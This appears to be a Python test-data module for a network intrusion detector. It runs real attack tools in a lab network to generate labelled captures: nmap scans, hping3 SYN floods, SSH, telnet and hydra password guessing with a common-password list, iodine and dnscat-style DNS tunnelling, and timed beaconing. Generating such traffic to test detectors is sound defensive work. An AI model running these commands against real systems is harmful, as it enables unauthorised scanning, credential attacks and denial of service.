"""The attacks: real tools, each run from its own attacker host against the victim.

Every function runs one attack to completion and returns its ``Run``: the exact command line
and the counts a correct alert would report, taken from the tool's own report (nmap's XML,
hping3's statistics, hydra's attempt lines), from the server's replies (login(1)'s refusals to
the scripted telnet guesser) or fixed by the command line. Nothing here knows about detectors
or thresholds.
"""

from __future__ import annotations

import random
import re
import subprocess
import tempfile
import time
from pathlib import Path
from typing import NamedTuple

from tests.data.capture_net import Host, in_ns, stop
from tests.data.capture_servers import (
    PASSWORD,
    TUNNEL_PASSWORD,
    TUNNEL_SERVER_IP,
    TUNNEL_ZONE,
    USER,
    Victim,
)
from tests.data.capture_tools import (
    SSH_OPTIONS,
    Run,
    ToolFailed,
    checked,
    command_line,
    curl,
    dig,
    nmap,
    paced,
    telnet_guesses,
)
from tests.data.captures import Expected

# nmap's 20 most frequent UDP ports (nmap-services); only 53 is open on the victim
UDP_TOP20 = "53,67,68,69,123,135,137,138,139,161,162,445,500,514,520,631,1434,1900,4500,49152"
UDP_V6_15 = "53,69,123,137,161,162,500,514,520,623,1434,1900,4500,5353,11211"
SLOW_TRAIN_PORTS = "20-59"  # 40 ports: 21, 22, 23 and 53 open
SLOW_HELDOUT_PORTS = (
    "21-23,25,53,80,110,111,135,139,143,443,445,993,995,"
    "1433,1723,3306,3389,5432,5900,6379,8000,8080,8443,9000,9200,11211,27017,50000"
)
GUESSES = (  # 39 of the most common passwords; never the right one
    "123456",
    "password",
    "admin",
    "letmein",
    "qwerty",
    "welcome",
    "monkey",
    "dragon",
    "111111",
    "abc123",
    "iloveyou",
    "sunshine",
    "princess",
    "football",
    "master",
    "shadow",
    "654321",
    "superman",
    "1qaz2wsx",
    "trustno1",
    "baseball",
    "passw0rd",
    "hello123",
    "freedom",
    "whatever",
    "qazwsx",
    "michael",
    "ninja",
    "mustang",
    "jessica",
    "charlie",
    "donald",
    "batman",
    "access",
    "zaq1zaq1",
    "starwars",
    "121212",
    "flower",
    "hottie",
)


def _ports(spec: str) -> int:
    """How many ports an nmap port list names."""
    total = 0
    for part in spec.split(","):
        low, _, high = part.partition("-")
        total += int(high or low) - int(low) + 1
    return total


def extra_range(victim: Victim) -> str:
    """The victim's extra addresses in nmap's range syntax (10.20.0.100-139)."""
    first, last = victim.host.extra_ipv4[0], victim.host.extra_ipv4[-1]
    return f"{first}-{last.rsplit('.', 1)[1]}"


def scan(host: Host, args: list[str], target: str, ports: str, behaviour_note: str) -> Run:
    command, report = nmap(host, [*args, "-p", ports, target])
    return Run(
        command=command,
        targets=(target,),
        target_ports=ports,
        expected=Expected(ports=report.ports_probed, hosts=1, open_ports=report.open_ports),
        notes=behaviour_note,
    )


# --- train ---------------------------------------------------------------------------------


def syn_scan_fast(host: Host, victim: Victim, rng: random.Random) -> Run:
    """nmap -sS -T4 over ports 1-1000."""
    return scan(host, ["-sS", "-T4", "-n"], victim.ip, "1-1000", "")


def connect_scan(host: Host, victim: Victim, rng: random.Random) -> Run:
    """nmap -sT (full connections) over ports 1-1000."""
    return scan(host, ["-sT", "-n"], victim.ip, "1-1000", "")


def udp_scan(host: Host, victim: Victim, rng: random.Random) -> Run:
    """nmap -sU over its 20 most frequent UDP ports; closed ones answer ICMP port unreachable."""
    return scan(
        host,
        ["-sU", "-T4", "-n"],
        victim.ip,
        UDP_TOP20,
        "closed ports answer ICMP port unreachable, rate-limited by the victim's kernel "
        "(see icmp in this file): nmap retransmits the unanswered probes",
    )


def slow_syn_scan(host: Host, victim: Victim, rng: random.Random) -> Run:
    """nmap -sS -T2 (0.4 s between probes) over 40 ports."""
    run = scan(host, ["-sS", "-T2", "-n"], victim.ip, SLOW_TRAIN_PORTS, "-T2: 0.4 s between probes")
    return with_delay(run, 0.4)


def addr_scan(host: Host, victim: Victim, rng: random.Random) -> Run:
    """nmap -sS -p 22 over the victim's 40 extra addresses."""
    command, report = nmap(host, ["-sS", "-T4", "-n", "-p", "22", extra_range(victim)])
    return Run(
        command=command,
        targets=victim.host.extra_ipv4,
        target_ports="22",
        expected=Expected(ports=1, hosts=report.hosts_up, open_ports=report.open_ports),
    )


def with_delay(run: Run, delay: float) -> Run:
    expected = run.expected
    return Run(
        command=run.command,
        targets=run.targets,
        target_ports=run.target_ports,
        expected=Expected(
            ports=expected.ports,
            hosts=expected.hosts,
            open_ports=expected.open_ports,
            delay_s=delay,
        ),
        notes=run.notes,
    )


def flood(host: Host, victim: Victim, port: int, interval: str, count: int) -> Run:
    args = ["hping3", "-q", "-S", "-p", str(port), "-i", interval, "-c", str(count), victim.ip]
    result = subprocess.run(in_ns(host.ns, args), capture_output=True, text=True, timeout=120)
    # hping3 prints its statistics on stderr and exits 1 when not every probe was answered
    stats = re.search(r"(\d+) packets transmitted", result.stdout + result.stderr)
    if stats is None:
        raise ToolFailed(f"hping3 printed no statistics: {result.stderr[-300:]}")
    return Run(
        command=command_line(args),
        targets=(victim.ip,),
        target_ports=str(port),
        expected=Expected(packets=int(stats.group(1)), ports=1, hosts=1),
        notes="hping3 sends every SYN from the next source port; the attacker's kernel resets "
        "each SYN/ACK the victim answers",
    )


def syn_flood(host: Host, victim: Victim, rng: random.Random) -> Run:
    """hping3: 5,000 SYNs to port 80, one per millisecond."""
    return flood(host, victim, 80, "u1000", 5000)


def ssh_guess(host: Host, victim: Victim, rng: random.Random) -> Run:
    """sshpass + ssh: 12 logins with wrong passwords, one connection each, back to back."""
    users = ("root", "admin", USER)
    wrong = 0
    args: list[str] = []
    for index in range(12):
        args = [
            "sshpass",
            "-p",
            GUESSES[index],
            "ssh",
            *SSH_OPTIONS,
            "-o",
            "PubkeyAuthentication=no",
            "-o",
            "PreferredAuthentications=password",
            f"{users[index % 3]}@{victim.ip}",
            "true",
        ]
        result = subprocess.run(in_ns(host.ns, args), capture_output=True, timeout=60)
        wrong += result.returncode == 5  # sshpass: "invalid password"
    return Run(
        command=command_line(args),
        targets=(victim.ip,),
        target_ports="22",
        expected=Expected(attempts=wrong, connections=12, ports=1, hosts=1),
        notes="run 12 times back to back with users root, admin, capuser in turn and the first "
        "12 passwords of the guess list; sshpass gives up at the second password prompt, so "
        "each run is one connection with one password tried",
    )


def telnet_guess(host: Host, victim: Victim, rng: random.Random) -> Run:
    """The telnet client, scripted: 12 wrong passwords, 3 per connection, 4 connections."""
    users = ("root", "admin", USER, "root")
    failed = sum(
        telnet_guesses(host, victim.ip, user, GUESSES[12 + 3 * index : 15 + 3 * index])
        for index, user in enumerate(users)
    )
    return Run(
        command=f"telnet {victim.ip}  (at login(1)'s prompts: USER, then 3 wrong passwords)",
        targets=(victim.ip,),
        target_ports="23",
        expected=Expected(attempts=failed, connections=len(users), hosts=1, ports=1),
        notes="4 connections one after the other as root, admin, capuser, root, each typing 3 "
        "of the 13th to 24th passwords of the guess list at login(1)'s prompts and closing "
        "after the third 'Login incorrect' (login waits 3 s after each); attempts are the "
        "server's 'Login incorrect' replies. hydra's telnet module was tried first: against "
        "inetutils-telnetd it typed a real password only on a connection's first attempt and "
        "left 2 of 6 connections waiting for login's 60 s timeout",
    )


def dns_tunnel_iodine(host: Host, victim: Victim, rng: random.Random) -> Run:
    """iodine through the victim's resolver for ~60 s, fetching pages through the tunnel."""
    args = ["iodine", "-f", "-r", "-P", TUNNEL_PASSWORD, victim.ip, TUNNEL_ZONE]
    started = time.monotonic()
    proc = subprocess.Popen(
        in_ns(host.ns, args), stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
    )
    try:
        _await_tunnel(proc)
        fetched = 0
        while time.monotonic() - started < 60:
            page = ("news.html", "app.js", "logo.png")[fetched % 3]
            checked(host, curl(f"http://{TUNNEL_SERVER_IP}/{page}"), timeout=30)
            fetched += 1
            time.sleep(4)  # pacing: a user's requests through the tunnel, not a wait
    finally:
        stop(proc)
    return Run(
        command=command_line(args),
        targets=(victim.ip,),
        target_ports="U:53",
        expected=Expected(parent_domain=TUNNEL_ZONE, hosts=1, ports=1),
        notes=f"the victim's dnsmasq forwards {TUNNEL_ZONE} to iodined; {fetched} pages fetched "
        f"over HTTP through the tunnel ({TUNNEL_SERVER_IP}); iodine reports no query count, so "
        "expected queries and names are tshark's counts of the capture",
    )


def _await_tunnel(proc: subprocess.Popen[str]) -> None:
    assert proc.stdout is not None
    deadline = time.monotonic() + 30
    seen = []
    while time.monotonic() < deadline:
        line = proc.stdout.readline()
        seen.append(line)
        if "Connection setup complete" in line:
            return
        if not line:
            break
    raise ToolFailed(f"iodine did not connect: {''.join(seen)[-400:]}")


def _beacon(
    host: Host, url_args: list[str], count: int, period: float, jitter: float, rng: random.Random
) -> list[str]:
    paced(count, period, jitter, rng, lambda _i: checked(host, url_args, timeout=15))
    return url_args


def beacon_http(host: Host, victim: Victim, rng: random.Random) -> Run:
    """curl to the web server every 12 s +- 10 %, 12 connections (~2.5 minutes)."""
    args = curl(f"http://{victim.ip}/api/v1/checkin")
    _beacon(host, args, 12, 12.0, 0.1, rng)
    return Run(
        command=command_line(args),
        targets=(victim.ip,),
        target_ports="80",
        expected=Expected(connections=12, period_s=12.0, jitter=0.1, hosts=1, ports=1),
        notes="run 12 times, starts 12 s +- 10 % apart (uniform, seeded)",
    )


# --- held-out ------------------------------------------------------------------------------


def slow_scan_delay(host: Host, victim: Victim, rng: random.Random) -> Run:
    """nmap -sS --scan-delay 2s over 30 ports (what -T1 would do, but in a minute)."""
    run = scan(host, ["-sS", "-n", "--scan-delay", "2s"], victim.ip, SLOW_HELDOUT_PORTS, "")
    return with_delay(run, 2.0)


def connect_scan_high(host: Host, victim: Victim, rng: random.Random) -> Run:
    """nmap -sT -T3 over ports 2000-2600 (all closed)."""
    return scan(host, ["-sT", "-T3", "-n"], victim.ip, "2000-2600", "")


def udp_scan_v6(host: Host, victim: Victim, rng: random.Random) -> Run:
    """nmap -6 -sU over 15 ports of the victim's IPv6 address."""
    return scan(
        host,
        ["-6", "-sU", "-n"],
        victim.host.ipv6,
        UDP_V6_15,
        "closed ports answer ICMPv6 port unreachable (type 1 code 4), rate-limited by the "
        "victim's kernel",
    )


def addr_scan_connect(host: Host, victim: Victim, rng: random.Random) -> Run:
    """nmap -sT -p 80 over the victim's 40 extra addresses."""
    command, report = nmap(host, ["-sT", "-T3", "-n", "-p", "80", extra_range(victim)])
    return Run(
        command=command,
        targets=victim.host.extra_ipv4,
        target_ports="80",
        expected=Expected(ports=1, hosts=report.hosts_up, open_ports=report.open_ports),
    )


class HydraRun(NamedTuple):
    """One hydra run's settings: which service, how many tasks, which logins and passwords."""

    service: str
    port: int
    tasks: int
    users: tuple[str, ...]
    passwords: tuple[str, ...]
    notes: str


def hydra(host: Host, victim: Victim, settings: HydraRun) -> Run:
    """hydra with settings against the victim; attempts counted from its [ATTEMPT] lines."""
    with tempfile.TemporaryDirectory(prefix="netmon-hydra-") as tmp:
        words, logins = Path(tmp, "passwords.txt"), Path(tmp, "users.txt")
        words.write_text("\n".join(settings.passwords) + "\n")
        logins.write_text("\n".join(settings.users) + "\n")
        login_args = ["-l", settings.users[0]] if len(settings.users) == 1 else ["-L", str(logins)]
        args = ["hydra", "-t", str(settings.tasks), "-V", "-I", *login_args, "-P", str(words)]
        args.append(f"{settings.service}://{victim.ip}")
        # hydra writes a restore file into its working directory: keep it out of the checkout
        out = checked(host, args, timeout=300, cwd=tmp)
    attempts = len(re.findall(r"^\[ATTEMPT\]", out, flags=re.MULTILINE))
    found = re.search(r"(\d+) valid passwords? found", out)
    command = command_line(args).replace(str(words), "passwords.txt")
    return Run(
        command=command.replace(str(logins), "users.txt"),
        targets=(victim.ip,),
        target_ports=str(settings.port),
        expected=Expected(
            attempts=attempts,
            hosts=1,
            ports=1,
            succeeded=found is not None and int(found.group(1)) > 0,
        ),
        notes=settings.notes,
    )


def _heldout_hydra(service: str, port: int) -> HydraRun:
    return HydraRun(
        service=service,
        port=port,
        tasks=4,
        users=(USER,),
        passwords=(*GUESSES[:39], PASSWORD),
        notes="passwords.txt: 39 wrong passwords, then the right one; attempts counted from "
        "hydra's [ATTEMPT] lines; hydra's 4 tasks each keep a connection for several guesses",
    )


def hydra_ssh(host: Host, victim: Victim, rng: random.Random) -> Run:
    """hydra -t 4 against sshd with 40 passwords (the last one right)."""
    return hydra(host, victim, _heldout_hydra("ssh", 22))


def hydra_ftp(host: Host, victim: Victim, rng: random.Random) -> Run:
    """hydra -t 4 against vsftpd with 40 passwords (the last one right)."""
    return hydra(host, victim, _heldout_hydra("ftp", 21))


def syn_flood_fast(host: Host, victim: Victim, rng: random.Random) -> Run:
    """hping3: 6,000 SYNs to port 443, one per 0.5 ms."""
    return flood(host, victim, 443, "u500", 6000)


def beacon_https(host: Host, victim: Victim, rng: random.Random) -> Run:
    """curl -k to the TLS server every 20 s +- 20 %, 10 connections (~3 minutes)."""
    name = "telemetry.cloudsync-app.net"
    args = curl(f"https://{name}/", "-k", "--resolve", f"{name}:443:{victim.ip}")
    _beacon(host, args, 10, 20.0, 0.2, rng)
    return Run(
        command=command_line(args),
        targets=(victim.ip,),
        target_ports="443",
        expected=Expected(connections=10, period_s=20.0, jitter=0.2, hosts=1, ports=1),
        notes="run 10 times, starts 20 s +- 20 % apart (uniform, seeded)",
    )


def dns_tunnel_dig(host: Host, victim: Victim, rng: random.Random) -> Run:
    """dnscat-like: 150 TXT lookups of unique long random labels under one parent, via dig."""
    parent = "cdn-telemetry.net"
    names = [f"{rng.randbytes(30).hex()}.{rng.randbytes(15).hex()}.{parent}" for _ in range(150)]
    paced(150, 0.2, 0.3, rng, lambda i: checked(host, dig(victim.ip, names[i], "TXT"), timeout=10))
    return Run(
        command=command_line(dig(victim.ip, names[0], "TXT")),
        targets=(victim.ip,),
        target_ports="U:53",
        expected=Expected(
            queries=len(names), names=len(set(names)), parent_domain=parent, hosts=1, ports=1
        ),
        notes="run 150 times, 0.2 s +- 30 % apart, each with a new name: a 60- and a 30-character "
        "hex label under the parent (what dnscat2 sends)",
    )
